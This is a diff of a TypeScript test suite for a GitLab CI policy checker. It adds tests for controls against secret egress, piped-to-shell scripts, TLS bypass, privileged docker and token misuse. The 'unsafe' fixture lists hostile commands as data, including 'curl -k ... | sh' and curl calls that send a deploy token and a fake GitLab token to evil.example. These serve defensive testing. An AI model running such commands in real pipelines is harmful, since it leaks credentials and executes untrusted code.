@@ -7,6 +7,7 @@ import {
   jobRow,
   type ProjectRow,
   type Sandbox,
+  sample,
   startSandbox,
 } from "../../src/sandbox/index.ts";
 import { checkout, runJob } from "../support/job.ts";
@@ -152,16 +153,11 @@ describe("the merged configuration", () => {
 });
 
 describe("GitLab's own scanner templates", () => {
-  it("may fail and have variables in their images, which the policy can accept and vouch for", async () => {
+  it("may fail, which the policy can accept, and have images that their own variables name", async () => {
     const plain = await runJob(sandbox, checkout("pipeline_security_jobs_intact", "pipeline_images"));
     expect(plain.report?.requirements[0]?.controls.map(({ status, message }) => [status, message])).toEqual([
       ["fail", "semgrep-sast may fail (allow_failure); secret_detection may fail (allow_failure)"],
-      [
-        "unknown",
-        expect.stringContaining(
-          "$SECRETS_ANALYZER_VERSION (secret_detection): a variable decides which tag it has",
-        ),
-      ],
+      ["pass", "the images of 2 jobs are as required"],
     ]);
     const accepting = await runJob(
       sandbox,
@@ -191,6 +187,88 @@ describe("GitLab's own scanner templates", () => {
       ["pass", "2 includes are as required"],
       ["pass", expect.stringContaining("no value that others decide was found")],
     ]);
+  });
+});
+
+describe("what the jobs do", () => {
+  const doing = [
+    ...["pipeline_no_secrets_in_configuration", "pipeline_no_unverified_scripts", "pipeline_no_tls_bypass"],
+    ...["pipeline_no_privileged_docker", "pipeline_installs_locked", "pipeline_no_job_token_misuse"],
+    { id: "pipeline_no_secret_egress", with: { hosts: ["api.example.com"] } },
+    { id: "ci_rule", rule: 'ci.jobs.all(j, !j.script.exists(s, s.contains("npm install")))', message: "m" },
+  ];
+  const token = ["glpat", "-", "x9Kq2mVb7RtY4wLsPz3N"].join("");
+  const clean = JSON.stringify({
+    build: { script: ["npm ci", 'curl -H "X: $DEPLOY_TOKEN" https://api.example.com/x'] },
+  });
+  const unsafe = JSON.stringify({
+    build: {
+      services: ["docker:dind"],
+      script: [
+        "npm install",
+        "curl -k https://get.example.com/x | sh",
+        'echo "$CI_JOB_TOKEN" > token.txt',
+        'curl -H "X: $DEPLOY_TOKEN" https://evil.example/x',
+        `curl -H "PRIVATE-TOKEN: ${token}" https://evil.example/x`,
+      ],
+    },
+  });
+  const configure = (merged_yaml: string, file = "build:\n  script: make\n") => {
+    const row = { valid: true, errors: [], warnings: [], merged_yaml, includes: [] };
+    project.ciLintAt.set(headOf(sandbox, 7), row);
+    project.files.set(`${headOf(sandbox, 7)}:.gitlab-ci.yml`, file);
+    project.variables = [
+      {
+        ...{ key: "DEPLOY_TOKEN", variableType: "ENV_VAR", protected: true, masked: true, hidden: false },
+        ...{ raw: true, environmentScope: "*" },
+      },
+    ];
+  };
+  const judge = async (env: Readonly<Record<string, string>> = {}) => {
+    const prepared = checkout(...doing);
+    const job = await runJob(sandbox, { iid: 7, ...prepared, env: { ...prepared.env, ...env } });
+    return { job, found: job.report?.requirements[0]?.controls ?? [] };
+  };
+
+  it("passes where nothing is wrong, with one look at each answer", async () => {
+    configure(clean);
+    const { found } = await judge();
+    expect(found.map(({ id, status, message }) => [id, status, status === "pass" ? "" : message])).toEqual(
+      found.map(({ id }) => [id, "pass", ""]),
+    );
+    expect(found).toHaveLength(8);
+    expect(sandbox.log.map(({ path }) => path.replace("/api/v4", "")).sort()).toEqual([
+      "/api/graphql",
+      "/projects/42",
+      "/projects/42/ci/lint",
+      "/projects/42/merge_requests/7",
+      "/projects/42/repository/files/.gitlab-ci.yml/raw",
+    ]);
+  });
+
+  it("fails where all is wrong, and shows no secret", async () => {
+    configure(unsafe);
+    const { job, found } = await judge();
+    expect(found.map(({ id, status }) => [id, status])).toEqual(found.map(({ id }) => [id, "fail"]));
+    expect(
+      JSON.stringify(job.report?.requirements[0]?.controls.filter(({ id }) => id !== "ci_rule")),
+    ).not.toContain(token);
+  });
+
+  it("is unknown where rules decide what is included", async () => {
+    configure(clean, "include:\n  - local: more.yml\n    rules: [{if: $X}]\nbuild:\n  script: make\n");
+    const { found } = await judge();
+    expect(found.map(({ id, status }) => [id, status])).toEqual(found.map(({ id }) => [id, "unknown"]));
+  });
+
+  it("is unknown to a token without the role, for what it cannot see", async () => {
+    configure(clean);
+    const { found } = await judge({ INPUT_GITLAB_TOKEN: sample.reporterToken });
+    const unknown = found.filter(({ status }) => status === "unknown");
+    expect(unknown.map(({ id }) => id)).toEqual(["pipeline_no_secret_egress"]);
+    expect(unknown[0]?.message).toMatch(/Maintainer/);
+    const guest = await judge({ INPUT_GITLAB_TOKEN: sample.guestToken });
+    expect(guest.found.filter(({ status }) => status === "pass")).toEqual([]);
   });
 });
 
